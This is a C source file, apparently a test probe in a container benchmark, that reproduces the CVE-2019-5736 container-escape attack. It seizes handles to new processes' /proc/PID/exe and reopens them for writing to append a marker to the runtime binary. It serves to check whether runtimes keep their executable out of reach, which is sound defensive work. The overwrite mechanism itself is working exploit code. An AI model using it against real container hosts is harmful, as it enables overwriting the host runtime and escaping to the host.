/* --grab-exe SECONDS: the CVE-2019-5736 attack from inside a container, for the tests that
 * check a runtime's own executable stays out of reach. For SECONDS the probe watches its pid
 * namespace; every process it has not seen before is stopped at once (SIGSTOP, so a runtime's
 * child cannot finish its execve meanwhile), its /proc/PID/exe is opened as a handle (O_PATH)
 * and it is continued. Until the deadline each handle is then reopened for writing through
 * /proc/self/fd, as the attack does once the runtime has exited; a reopen that succeeds appends
 * a marker line, which is the overwrite (tests run a copy of the runtime binary). */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <time.h>
#include <unistd.h>

#include "probe.h"

#define GRAB_MAX 128

struct grabbed {
    pid_t pid;
    int open_errno; /* of the O_PATH open of /proc/PID/exe; 0 when we hold a handle */
    int fd;
    char comm[32];   /* what it ran when first seen (a runtime's child keeps the runtime's name) */
    char target[256];
    dev_t dev;
    ino_t ino;
    int write_errno; /* last errno of the reopen for writing; 0 once written */
    int written;
};

static double now_seconds(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static struct grabbed *find(struct grabbed *list, int count, pid_t pid) {
    for (int i = 0; i < count; i++)
        if (list[i].pid == pid) return &list[i];
    return NULL;
}

/* Stops `pid`, takes its exe handle and lets it go on. */
static void inspect(struct grabbed *g, pid_t pid) {
    char path[64];
    memset(g, 0, sizeof(*g));
    g->pid = pid;
    g->fd = -1;
    g->write_errno = -1;
    int stopped = kill(pid, SIGSTOP) == 0;
    snprintf(path, sizeof(path), "/proc/%d/comm", (int)pid);
    char *comm = probe_read_line(path);
    if (comm != NULL) snprintf(g->comm, sizeof(g->comm), "%s", comm);
    free(comm);
    snprintf(path, sizeof(path), "/proc/%d/exe", (int)pid);
    g->fd = open(path, O_PATH | O_CLOEXEC);
    g->open_errno = g->fd < 0 ? errno : 0;
    ssize_t n = readlink(path, g->target, sizeof(g->target) - 1);
    if (n > 0) g->target[n] = '\0';
    if (stopped) kill(pid, SIGCONT);
    struct stat st;
    if (g->fd >= 0 && fstat(g->fd, &st) == 0) {
        g->dev = st.st_dev;
        g->ino = st.st_ino;
    }
}

/* One pass over /proc: every new pid but our own is inspected, and one that refused its handle
 * is tried again (it may have dropped capabilities or run its execve since). */
static void scan(DIR *proc, struct grabbed *list, int *count, int preexisting) {
    rewinddir(proc);
    struct dirent *entry;
    while ((entry = readdir(proc)) != NULL) {
        char *end = NULL;
        long pid = strtol(entry->d_name, &end, 10);
        if (end == entry->d_name || *end != '\0' || pid == getpid()) continue;
        struct grabbed *known = find(list, *count, (pid_t)pid);
        if (known == NULL && *count < GRAB_MAX) {
            inspect(&list[*count], (pid_t)pid);
            (*count)++;
        } else if (known != NULL && known >= &list[preexisting] && known->fd < 0) {
            struct grabbed first = *known;
            inspect(known, (pid_t)pid);
            /* Keep what it was when first seen; a handle taken later is kept too. */
            memcpy(known->comm, first.comm, sizeof(known->comm));
            if (known->fd < 0) known->open_errno = first.open_errno;
        }
    }
}

/* The overwrite: reopen a handle for writing and append a marker. */
static void try_write(struct grabbed *g) {
    if (g->fd < 0 || g->written) return;
    char path[64];
    snprintf(path, sizeof(path), "/proc/self/fd/%d", g->fd);
    int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
    if (fd < 0) {
        g->write_errno = errno;
        return;
    }
    static const char marker[] = "\ncbench-probe grab-exe was here\n";
    g->written = write(fd, marker, sizeof(marker) - 1) == (ssize_t)(sizeof(marker) - 1);
    g->write_errno = g->written ? 0 : errno;
    close(fd);
}

void check_grab_exe(struct json *j, long seconds) {
    static struct grabbed list[GRAB_MAX];
    int count = 0;
    DIR *proc = opendir("/proc");
    json_key(j, "exe_grab");
    json_object_begin(j);
    if (proc == NULL) {
        json_kv_errno(j, "error", errno);
        json_object_end(j);
        return;
    }
    /* What runs already (ourselves, our shell) is not the target; remember it unstopped. */
    struct dirent *entry;
    while ((entry = readdir(proc)) != NULL && count < GRAB_MAX) {
        char *end = NULL;
        long pid = strtol(entry->d_name, &end, 10);
        if (end == entry->d_name || *end != '\0') continue;
        memset(&list[count], 0, sizeof(list[count]));
        list[count].pid = (pid_t)pid;
        list[count].fd = -1;
        list[count].open_errno = -1; /* not inspected */
        count++;
    }
    int preexisting = count;
    double deadline = now_seconds() + (double)seconds;
    while (now_seconds() < deadline) {
        scan(proc, list, &count, preexisting);
        for (int i = preexisting; i < count; i++) try_write(&list[i]);
    }
    closedir(proc);
    json_kv_int(j, "seconds", seconds);
    json_key(j, "processes");
    json_array_begin(j);
    for (int i = preexisting; i < count; i++) {
        struct grabbed *g = &list[i];
        char device[32];
        snprintf(device, sizeof(device), "%u:%u", major(g->dev), minor(g->dev));
        json_object_begin(j);
        json_kv_int(j, "pid", g->pid);
        json_kv_string(j, "comm", g->comm[0] ? g->comm : NULL);
        json_kv_string(j, "exe", g->target[0] ? g->target : NULL);
        json_kv_errno(j, "open_errno", g->open_errno);
        if (g->fd >= 0) {
            json_kv_string(j, "device", device);
            json_kv_uint(j, "inode", (unsigned long long)g->ino);
            json_kv_bool(j, "written", g->written);
            json_kv_errno(j, "write_errno", g->write_errno < 0 ? 0 : g->write_errno);
            close(g->fd);
        }
        json_object_end(j);
    }
    json_array_end(j);
    json_object_end(j);
}
